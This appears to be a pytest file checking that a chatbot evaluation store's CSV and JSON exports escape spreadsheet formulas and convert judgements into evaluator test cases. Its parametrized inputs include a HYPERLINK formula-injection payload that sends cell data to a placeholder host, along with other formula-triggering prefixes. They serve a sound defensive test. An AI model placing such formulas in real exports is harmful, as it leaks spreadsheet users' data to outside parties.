"""Exporting: cells that no spreadsheet runs, JSON that is the records, and test sets that the evaluator reads."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st
from store_contract import BARE, DAY, FULL, JUDGEMENT, REPLY

from chatbot.evaluation.cases import is_met, parse_lines
from chatbot.model import Kind
from chatbot.store import Judgement
from chatbot.store.exporting import (
    case_of,
    cases,
    counts_csv,
    counts_json,
    groups_csv,
    groups_json,
    questions_csv,
    questions_json,
)
from chatbot.store.grouping import group

GROUPS = group([replace(BARE, question_id=7), replace(FULL, question_id=9)], lambda text, _: text.split())


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize(
    ("text", "cell", "why"),
    [
        ("=1+1", "'=1+1", "a formula"),
        (
            '=HYPERLINK("http://x.example?"&A1,"ok")',
            '\'=HYPERLINK("http://x.example?"&A1,"ok")',
            "one that tells others",
        ),
        ("+34 is what I dial", "'+34 is what I dial", "a plus begins one"),
        ("-2+3", "'-2+3", "a minus too"),
        ("@SUM(A1)", "'@SUM(A1)", "an old one"),
        ("\t=1", "'\t=1", "a tab before it is passed over"),
        ("\r=1", "'\r=1", "so is a return"),
        ("\n=1", "'\n=1", "and a line feed"),
        ("＝1", "'＝1", "in full width"),
        ("what is 1=1?", "what is 1=1?", "not at the beginning"),
        (" =1", " =1", "a space makes it text"),
        ('say "no", please\nthanks', 'say "no", please\nthanks', "quotation marks, commas and lines are data"),
        ("¿Cuánto? 🙂", "¿Cuánto? 🙂", "any letters"),
    ],
)
def test_a_cell_is_text_whatever_is_in_it(text: str, cell: str, why: str) -> None:
    (row,) = read(questions_csv([replace(BARE, text=text, note=text)]))
    assert (row["text"], row["note"]) == (cell, cell), why


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_any_texts_come_back_from_the_csv(texts: list[str]) -> None:
    rows = read(questions_csv([replace(BARE, text=text) for text in texts]))
    assert [row["text"].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in texts]
    assert not [row for row in rows if row["text"][:1] in set("=+-@\t\r")]


def test_the_csv_has_the_columns_of_the_records() -> None:
    (row,) = read(questions_csv([replace(FULL, question_id=9, resolved=date(2026, 4, 1))]))
    assert row == {
        "question_id": "9",
        "day": "2026-03-09",
        "language": "es",
        "text": FULL.text.replace("; --", "; '--"),  # where semicolons part cells, one more begins there
        "why": "low_margin",
        "kind": "clarify",
        "label": "benign",
        "reason": "unsure",
        "confidence": "0.3125",
        "passage_ids": "surgical-decompression#3\na#1",
        "assumed": "herniated disc",
        "comment": "'=no",
        "resolved": "2026-04-01",
        "note": "",
    }
    assert read(counts_csv([REPLY, replace(REPLY, label=None)])) == [
        {"day": "2026-03-09", "event": "reply", "kind": "answer", "label": label, "n": "1"} for label in ("benign", "")
    ]
    first = read(groups_csv(GROUPS))[0]
    assert (first["questions"], first["representative"], first["ids"]) == ("1", BARE.text, "7")


def test_the_csv_ends_lines_as_rfc_4180_says_and_begins_with_a_mark_if_asked() -> None:
    plain = counts_csv([REPLY])
    assert plain.encode() == b"day,event,kind,label,n\r\n2026-03-09,reply,answer,benign,1\r\n"
    assert counts_csv([REPLY], bom=True).encode() == b"\xef\xbb\xbf" + plain.encode()


def test_the_json_is_the_records() -> None:
    told = json.loads(questions_json([FULL]))[0]
    assert (told["day"], told["text"], told["why"]) == ("2026-03-09", FULL.text, "low_margin")
    assert (told["passage_ids"], told["resolved"]) == (["surgical-decompression#3", "a#1"], None)
    assert json.loads(counts_json([REPLY])) == [
        {"day": "2026-03-09", "event": "reply", "kind": "answer", "label": "benign", "n": 1}
    ]
    told = json.loads(groups_json(GROUPS))[0]
    assert (told["representative"]["text"], told["days"]) == (BARE.text, [{"day": "2026-03-09", "n": 1}])
    assert [each["question_id"] for each in told["members"]] == told["ids"] == [7]


def test_no_record_is_a_header_alone_and_an_empty_list() -> None:
    assert (read(questions_csv([])), json.loads(questions_json([])), cases([])) == ([], [], "")


@pytest.mark.parametrize(
    ("judgement", "keys", "why"),
    [
        (JUDGEMENT, {"documents", "sections", "facts"}, "an answer from a passage"),
        (replace(JUDGEMENT, facts=()), {"documents", "sections"}, "the passage is enough"),
        (replace(JUDGEMENT, section=""), {"documents", "facts"}, "a text without headings"),
        (replace(JUDGEMENT, facts=("/", " ")), {"documents", "sections"}, "a fact without words is none"),
        (replace(JUDGEMENT, expect=Kind.NO_ANSWER), set(), "what is not answered comes from nowhere"),
        (Judgement(DAY, "es", "¿Y si\nllueve?", Kind.NO_ANSWER), set(), "two lines, one case"),
    ],
)
def test_a_judgement_is_a_case_that_the_evaluator_reads(judgement: Judgement, keys: set[str], why: str) -> None:
    raw = case_of(judgement, "judged-3")
    assert raw.keys() - {"id", "question", "language", "expect", "tags"} == keys, why
    (case,), faults = parse_lines(iter([json.dumps(raw)]), "judged")
    assert faults == []
    (turn,) = case.turns
    assert (case.case_id, case.tags) == ("judged-3", ("judged",))
    assert (turn.question, turn.language, turn.expect) == (judgement.text, judgement.language, judgement.expect)
    assert turn.documents == (("prices",) if "documents" in keys else ())
    assert len(turn.facts) == (2 if "facts" in keys else 0)


@pytest.mark.parametrize("fact", ["/min/", "/(/", "20 euros", "//"])
def test_a_fact_is_met_by_its_own_words_and_nothing_else(fact: str) -> None:
    (case,), faults = parse_lines(iter([json.dumps(case_of(replace(JUDGEMENT, facts=(fact,)), "a"))]), "judged")
    assert faults == []
    for alternatives in case.turns[0].facts:
        assert is_met(alternatives, f"It is {fact} here")
        assert not is_met(alternatives, "It is one min here")


def test_a_test_set_is_one_case_a_line_with_ids_of_their_own() -> None:
    judged = [replace(JUDGEMENT, judgement_id=4), JUDGEMENT, replace(JUDGEMENT, judgement_id=8, expect=Kind.NO_ANSWER)]
    found, faults = parse_lines(iter(cases(judged).splitlines()), "judged.jsonl")
    assert faults == []
    assert [case.case_id for case in found] == ["judged-4", "judged-2", "judged-8"]
